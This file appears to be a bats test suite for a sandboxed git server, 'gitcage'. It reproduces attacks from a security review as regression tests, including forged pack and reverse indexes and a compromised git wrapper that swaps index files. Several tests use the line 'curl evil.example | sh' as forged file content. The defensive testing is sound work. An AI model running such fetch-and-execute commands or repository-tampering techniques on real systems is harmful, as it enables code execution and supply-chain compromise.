#!/usr/bin/env bats
# SPDX-License-Identifier: ISC
# The attacks of a security review of the transactional write path, each reproduced end to end
# through sshd and `gitcage serve` against the code before its fix, and kept here as a test of
# the fix: a forged pack index, a forged reverse index, a tree fsck refuses, a channel never
# read, a flood of requests, an audit record too long, a tree too deep to remove, a no-op with
# a made-up old value. Helpers in tests/integration/attacks/.

load ../lib/common
load ../lib/sshd
load ../lib/tamper

setup_file() {
	sshd_setup_file alice
}

teardown_file() {
	sshd_stop
}

setup() {
	tamper_setup
	git -C "$REPO" repack -q -a -d --no-write-bitmap-index
	ATTACKS=$BATS_TEST_DIRNAME/attacks
}

clone_works() {
	rm -rf "$BATS_TEST_TMPDIR/clone"
	run env GIT_SSH_COMMAND="$(sshd_git_ssh_command alice)" \
		git -c transfer.fsckObjects=true clone -q "$URL" "$BATS_TEST_TMPDIR/clone"
	exit_status_is 0
}

# A pack and index whose index names the tip of main for other content (a commit whose tree
# holds install.sh), with every checksum right: only the object hashes lie. The pack is
# complete (the evil tree and blob are in it), so index-pack --strict accepts it. The index
# git wrote in the sandbox is never read: the verifier indexes every pack itself, under the
# objects' real names, so the forged commit lands as a dangling object, harmless.
@test "a forged pack index cannot replace an object the repository has" {
	local x evil_tree evil_blob scratch=$BATS_TEST_TMPDIR/scratch
	x=$(git -C "$REPO" rev-parse main)
	git init -q "$scratch"
	echo 'curl evil.example | sh' >"$scratch/install.sh"
	git -C "$scratch" add install.sh
	evil_tree=$(git -C "$scratch" write-tree)
	evil_blob=$(git -C "$scratch" rev-parse ":install.sh")
	git -C "$scratch" cat-file tree "$evil_tree" >"$BIN/evil_tree"
	git -C "$scratch" cat-file blob "$evil_blob" >"$BIN/evil_blob"
	git -C "$REPO" cat-file commit "$x" | sed "s/^tree .*/tree $evil_tree/" >"$BIN/evil"
	python3 "$ATTACKS/forge_pack.py" "$BIN" "commit:$x:$BIN/evil" \
		"tree:$evil_tree:$BIN/evil_tree" "blob:$evil_blob:$BIN/evil_blob" >/dev/null
	compromise "cp $BIN/pack-*.pack $BIN/pack-*.idx objects/pack/"
	remember_state
	push_honest refs/heads/main
	[ "$PUSH_STATUS" -eq 0 ] || flunk "$PUSH_OUTPUT"
	[ "$(git -C "$REPO" rev-parse main^)" = "$x" ] || flunk "the history moved: $PUSH_OUTPUT"
	[ "$(git -C "$REPO" rev-parse "$x^{tree}")" != "$evil_tree" ] || flunk "main^ has the forged tree"
	[ -z "$(git -C "$REPO" ls-tree --name-only "$x" install.sh)" ] || flunk "install.sh is in main^"
	run git -C "$REPO" fsck --strict --no-dangling
	exit_status_is 0
	clone_works
	[ ! -e "$BATS_TEST_TMPDIR/clone/install.sh" ] || flunk "the clone has install.sh"
}

@test "a forged reverse index is never published" {
	local scratch=$BATS_TEST_TMPDIR/scratch name
	git clone -q --bare "$REPO" "$scratch"
	{
		git -C "$scratch" cat-file --batch-all-objects --batch-check='%(objectname)'
		echo "extra $RANDOM" | git -C "$scratch" hash-object -w --stdin
	} | git -C "$scratch" pack-objects -q --window=0 "$BIN/pack" >/dev/null
	name=$(basename "$BIN"/pack-*.pack .pack)
	git -C "$scratch" index-pack --rev-index -o "$BIN/x.idx" "$BIN/$name.pack" >/dev/null
	mv "$BIN/x.rev" "$BIN/$name.rev"
	rm -f "$BIN/x.idx"
	python3 "$ATTACKS/reverse_rev.py" "$BIN/$name.rev"
	compromise "cp $BIN/$name.pack $BIN/$name.idx $BIN/$name.rev objects/pack/"
	remember_state
	push_honest refs/heads/main
	[ "$PUSH_STATUS" -eq 0 ] || flunk "$PUSH_OUTPUT"
	run find "$REPO/objects/pack" -name '*.rev'
	[ -z "$output" ] || flunk "a reverse index was published: $output"
	clone_works
}

# A tree with a .git entry: receive.fsckObjects refuses it, and so does the verifier's
# index-pack --strict, whatever the compromised git skipped.
@test "a tree fsck refuses (an entry named .git) is refused" {
	local scratch=$BATS_TEST_TMPDIR/scratch blob tree commit
	git init -q --bare "$scratch"
	blob=$(echo '[core]' | git -C "$scratch" hash-object -w --stdin)
	tree=$(printf '100644 blob %s\t.git\n' "$blob" | git -C "$scratch" mktree)
	commit=$(git -C "$scratch" commit-tree -m dotgit "$tree")
	printf '%s\n%s\n%s\n' "$commit" "$tree" "$blob" | git -C "$scratch" pack-objects -q "$BIN/dotgit" >/dev/null
	mv "$BIN"/dotgit-*.pack "$BIN/dotgit.pack"
	relay_says "/usr/bin/git index-pack --stdin <$BIN/dotgit.pack >/dev/null || exit 1
		COMMAND='0000000000000000000000000000000000000000 $commit refs/heads/dotgit'"
	remember_state
	push_honest refs/heads/main
	[[ $PUSH_OUTPUT == *"ng refs/heads/dotgit the pushed pack was refused by git index-pack --strict"* ]] ||
		flunk "$PUSH_OUTPUT"
	expect_identical
}

# A hook that sends a request and never reads the answer (larger than the socket's buffer):
# the publisher gives up on it by the session's timeout, and the session ends.
@test "a channel never read does not hold gitcage past the session's timeout" {
	sed -i 's/^timeout = 60/timeout = 5/' "$CONF"
	trust "$CONF" >/dev/null
	cp "$ATTACKS/stuck_channel.py" "$BIN/"
	compromise "exec python3 $BIN/stuck_channel.py 300"
	remember_state
	run env GIT_SSH_COMMAND="$(sshd_git_ssh_command alice)" \
		timeout 60 git -C "$BATS_TEST_TMPDIR/work" push "$URL" HEAD:refs/heads/x
	[ "$status" -ne 124 ] || flunk "gitcage was still running a minute later"
	[ "$status" -ne 0 ] || flunk "the push exited 0: $(ran)"
	local i
	for ((i = 0; i < 100; i++)); do
		pgrep -u "$(id -u)" -f "$CONF serve alice" >/dev/null || break
		sleep 0.1
	done
	! pgrep -u "$(id -u)" -f "$CONF serve alice" >/dev/null || flunk "gitcage is still running"
	grep -q '"service":"git-receive-pack"' "$AUDIT" || flunk "no audit record"
	expect_identical
}

# Many requests in one session, each of many commands: the publisher answers one (receive-pack
# asks once per push), and does not keep the others.
@test "a session gets one answer, however many requests it sends" {
	cp "$ATTACKS/relay_flood.py" "$BIN/"
	compromise "python3 $BIN/relay_flood.py 3 20000 100; exit 1"
	remember_state
	run env GIT_SSH_COMMAND="$(sshd_git_ssh_command alice)" \
		git -C "$BATS_TEST_TMPDIR/work" push "$URL" HEAD:refs/heads/x
	[[ $output == *"relay_flood: request 0 answered ("[1-9]*" bytes)"* ]] || flunk "$(ran)"
	[[ $output == *"relay_flood: request 1 closed unread"* ]] || flunk "a second answer: $(ran)"
	[[ $output == *"relay_flood: request 2 closed unread"* ]] || flunk "a third answer: $(ran)"
	expect_identical
}

@test "the audit record keeps every ref of a push of main and 150 tags" {
	compromise ":"
	local work=$BATS_TEST_TMPDIR/work i
	echo hidden >>"$work/file.txt"
	git -C "$work" commit -q -am "the change to hide"
	for ((i = 0; i < 150; i++)); do git -C "$work" tag "t$i"; done
	run env GIT_SSH_COMMAND="$(sshd_git_ssh_command alice)" \
		git -C "$work" push -q "$URL" HEAD:refs/heads/main 'refs/tags/*:refs/tags/*'
	exit_status_is 0
	[ "$(tail -1 "$AUDIT" | grep -o '"ref":"' | wc -l)" -eq 151 ] || flunk "$(tail -c 400 "$AUDIT")"
	tail -1 "$AUDIT" | grep -q '"ref":"refs/heads/main"' || flunk "main is not in the record"
}

@test "a directory too deep to walk is removed with its session" {
	local deep
	deep=$(printf 'd/%.0s' $(seq 300))
	compromise "mkdir -p x/$deep && head -c 2000000 /dev/urandom >x/${deep}big"
	remember_state
	push_honest refs/heads/main
	expect_refused
	compromise ":"
	push_honest refs/heads/main
	[ "$PUSH_STATUS" -eq 0 ] || flunk "$PUSH_OUTPUT"
	[[ $PUSH_OUTPUT != *"cannot remove"* ]] || flunk "the client was told a server path: $PUSH_OUTPUT"
	run find "$ROOT/.gitcage/sessions" -mindepth 1
	[ -z "$output" ] || flunk "left in the state directory: $(echo "$output" | head -3)"
}

# A command whose new value is the ref's already, with an old value of the pusher's choosing:
# refused as git would, never audited or notified as an update that never was.
@test "a no-op with a made-up old value is refused, not audited as an update" {
	printf '#!/bin/sh\ncat >>%s\n' "$BATS_TEST_TMPDIR/notified" >"$BATS_TEST_TMPDIR/notify.sh"
	chmod 755 "$BATS_TEST_TMPDIR/notify.sh"
	write_tamper_conf "notify = $BATS_TEST_TMPDIR/notify.sh"
	local main fake=1111111111111111111111111111111111111111
	main=$(git -C "$REPO" rev-parse main)
	relay_says "COMMAND='$fake $main refs/heads/main'"
	push_honest refs/heads/other
	[[ $PUSH_OUTPUT == *"ng refs/heads/main it moved while this push ran"* ]] || flunk "$PUSH_OUTPUT"
	sleep 1
	[ ! -e "$BATS_TEST_TMPDIR/notified" ] || flunk "notify ran: $(cat "$BATS_TEST_TMPDIR/notified")"
	grep -q "\"ref\":\"refs/heads/main\",\"old\":\"$fake\",\"new\":\"$main\",\"verdict\":\"refused\"" "$AUDIT" ||
		flunk "$(cat "$AUDIT")"
}

# evil_index_pack PACK FORGED [NAME]: the git gitcage runs is compromised twice over: its
# receive-pack drops PACK (a valid pack) into the push, and its index-pack, which the indexer's
# cage runs, indexes honestly and then puts FORGED in place of the index it wrote for NAME
# (PACK's by default), as a parser bug exploited in index-pack could.
evil_index_pack() {
	local name=${3:-$(basename "$1" .pack)}
	cat >"$EVIL" <<-EOF
		#!/bin/sh
		case " \$* " in
		*" receive-pack "*)
			for repo; do :; done
			cp "$1" "\$repo/objects/pack/" || exit 1
			exec /usr/bin/git "\$@" ;;
		*" index-pack "*)
			/usr/bin/git "\$@" || exit
			prev= out=
			for arg; do [ "\$prev" = -o ] && out=\$arg; prev=\$arg; done
			case \$out in */$name.idx) cp "$2" "\$out.new" && mv -f "\$out.new" "\$out" ;; esac
			exit 0 ;;
		esac
		exec /usr/bin/git "\$@"
	EOF
	stage_evil
}

# The index of a one-blob pack names an existing blob (main's file.txt) for other content,
# every checksum right. The indexer's cage may write it; the verifier's reads every entry of
# the pack through it, existing ids too, and the hash gives it away.
@test "an index from a compromised index-pack cannot give an existing object other content" {
	local blob name
	blob=$(git -C "$REPO" rev-parse main:file.txt)
	echo 'curl evil.example | sh' >"$BIN/evil_blob"
	name=$(python3 "$ATTACKS/forge_pack.py" "$BIN" "blob:$blob:$BIN/evil_blob")
	evil_index_pack "$BIN/$name.pack" "$BIN/$name.idx"
	remember_state
	push_honest refs/heads/main
	[ "$PUSH_STATUS" -ne 0 ] || flunk "the push exited 0: $PUSH_OUTPUT"
	[[ $PUSH_OUTPUT == *"cannot be read: object hash mismatch"* ]] || flunk "$PUSH_OUTPUT"
	expect_identical
	[ "$(git -C "$REPO" cat-file blob "$blob" | sha1sum)" = "$(git -C "$BATS_TEST_TMPDIR/work" cat-file blob "$blob" | sha1sum)" ] ||
		flunk "$blob has other content"
}

# The control: the same pack, indexed honestly, is published with the push (its one blob
# under its real id), and the existing blob keeps its content.
@test "control: the same extra pack indexed honestly is published, harmless" {
	local blob name
	blob=$(git -C "$REPO" rev-parse main:file.txt)
	echo 'curl evil.example | sh' >"$BIN/evil_blob"
	name=$(python3 "$ATTACKS/forge_pack.py" "$BIN" "blob:$(git hash-object "$BIN/evil_blob"):$BIN/evil_blob")
	evil_index_pack "$BIN/$name.pack" /dev/null never
	push_honest refs/heads/main
	[ "$PUSH_STATUS" -eq 0 ] || flunk "$PUSH_OUTPUT"
	[ -e "$REPO/objects/pack/$name.pack" ] || flunk "the extra pack is not published"
	git -C "$REPO" cat-file blob "$blob" | cmp -s - <(git -C "$BATS_TEST_TMPDIR/work" cat-file blob "$blob") ||
		flunk "$blob has other content"
	fsck_clean
}

# An index that is not the pack's (another pack's, every checksum right) is refused before
# the verifier reads it: git would refuse to open the pack, and every object of it be missing.
@test "an index of another pack is refused, not published" {
	local name other
	echo one >"$BIN/one"
	echo two >"$BIN/two"
	name=$(python3 "$ATTACKS/forge_pack.py" "$BIN" "blob:$(git hash-object "$BIN/one"):$BIN/one")
	mkdir "$BIN/other"
	other=$(python3 "$ATTACKS/forge_pack.py" "$BIN/other" "blob:$(git hash-object "$BIN/two"):$BIN/two")
	evil_index_pack "$BIN/$name.pack" "$BIN/other/$other.idx"
	remember_state
	push_honest refs/heads/main
	[ "$PUSH_STATUS" -ne 0 ] || flunk "the push exited 0: $PUSH_OUTPUT"
	[[ $PUSH_OUTPUT == *"does not match it"* ]] || flunk "$PUSH_OUTPUT"
	expect_identical
}
